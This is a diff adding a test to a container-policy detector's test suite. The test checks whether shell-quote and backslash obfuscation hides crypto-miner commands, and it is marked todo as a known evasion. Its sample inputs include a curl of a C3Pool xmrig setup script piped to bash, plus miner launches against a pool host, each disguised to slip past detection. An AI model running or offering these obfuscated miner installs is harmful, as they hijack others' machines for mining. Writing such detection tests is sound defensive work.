@@ -422,3 +422,19 @@ t.test("miner-images' cut-by-position parsing and account lookup: every spelling
   t.same(verdicts({ image: 'gakeawsx/nginx' }, 'miner-images'), [])
   t.same(verdicts({ image: 'quay.io/team/gakeaws/nginx' }, 'miner-images'), [])
 })
+
+t.test('quotes and backslashes the shell removes inside a word do not hide a miner', async (t) => {
+  const todo = 'evasion found, see report: no reader removes shell quotes inside a word (no gate is the cause)'
+  for (const script of [
+    `curl -sL https://raw.githubusercontent"."com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s ${W}`,
+    `/usr/local/bin/svc -o pool.example.net":"3333 -u worker1 -k`,
+    `/usr/local/bin/svc '-'o pool.example.net:3333 -u worker1 -k`,
+    `/usr/local/bin/svc -\\o pool.example.net:3333 -u worker1 -k`,
+  ]) {
+    // The gate is not the cause: the ungated grammar and installer search miss them too.
+    const container = { command: ['sh', '-c', script] }
+    t.same(gateDiffers(container), [], script)
+    t.same(findGated(textsOf(container)), findUngated(textsOf(container)), script)
+    t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', script, { todo })
+  }
+})
